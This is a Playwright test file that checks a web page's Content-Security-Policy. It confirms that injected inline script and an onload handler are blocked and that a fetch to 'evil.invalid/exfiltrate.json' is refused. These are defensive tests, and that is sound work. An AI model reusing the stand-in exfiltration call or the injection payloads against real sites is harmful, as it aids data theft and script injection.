import { expect, test } from '@playwright/test'
import { curated } from './dataset'
import { watchPage } from './trust-watch'

const TOTAL = curated.events.length

test('the built page carries a strict Content-Security-Policy and no inline script or style', async ({ request }) => {
  const html = await (await request.get('/')).text()
  const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1]
  expect(policy, 'CSP meta tag').toBeDefined()
  const directives = new Map(policy!.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]))
  expect(directives.get('default-src')).toEqual(["'self'"])
  expect(directives.get('script-src')).toEqual(["'self'"])
  expect(directives.get('style-src')).toEqual(["'self'"])
  // https: so that a reader can open a dataset from a URL (?data=); nothing is fetched unless they do.
  expect(directives.get('connect-src')).toEqual(["'self'", 'https:'])
  expect(directives.get('object-src')).toEqual(["'none'"])
  expect(policy).not.toMatch(/unsafe-(eval|inline)|\*|http:/)
  // The meta must come before any script or stylesheet, or those would load unpoliced.
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<script|<link rel="stylesheet"/))
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/)
  expect(html).not.toMatch(/\sstyle="/)
})

test('a session through every panel raises no CSP violation and requests nothing from elsewhere', async ({ page, baseURL }) => {
  const watch = await watchPage(page, baseURL!)
  await page.goto('/')
  await expect(page.getByRole('status').filter({ hasText: `${TOTAL} of ${TOTAL} events` })).toBeVisible()
  await page.getByRole('group', { name: 'Events', exact: true }).getByRole('button').first().click()
  await expect(page.getByRole('complementary').getByRole('heading', { level: 2 })).toBeVisible()
  await page.getByRole('button', { name: 'Zoom in' }).click()
  await page.getByRole('button', { name: 'List' }).click()
  await expect(page.getByRole('table')).toBeVisible()
  await page.goto('/?embed=1')
  await expect(page.getByRole('group', { name: 'Events', exact: true }).getByRole('button').first()).toBeVisible({ timeout: 15_000 })
  await watch.expectClean()
})

test('the policy is enforced: injected inline script and handlers do not run, and are reported', async ({ page }) => {
  await page.goto('/')
  const outcome = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective))
    const script = document.createElement('script')
    script.textContent = 'window.__inlineRan = true'
    document.body.append(script)
    const holder = document.createElement('div')
    holder.innerHTML = '<img src="/favicon.svg" onload="window.__handlerRan = true">'
    document.body.append(holder)
    await new Promise((resolve) => setTimeout(resolve, 500))
    return { ran: '__inlineRan' in window || '__handlerRan' in window, violations: violations.length }
  })
  expect(outcome.ran).toBe(false)
  expect(outcome.violations).toBeGreaterThanOrEqual(2)
})

test('a plain-http request to another site is refused by the page itself', async ({ page, baseURL }) => {
  const watch = await watchPage(page, baseURL!)
  await page.goto('/')
  const outcome = await page.evaluate(() =>
    fetch('http://evil.invalid/exfiltrate.json').then(
      () => 'fetched',
      (error: unknown) => (error instanceof TypeError ? 'refused' : 'other'),
    ),
  )
  expect(outcome).toBe('refused')
  await expect.poll(() => watch.cspViolations()).toEqual([expect.stringMatching(/^connect-src http:\/\/evil\.invalid\/exfiltrate\.json/)])
  expect(watch.foreignRequests()).toEqual([])
})
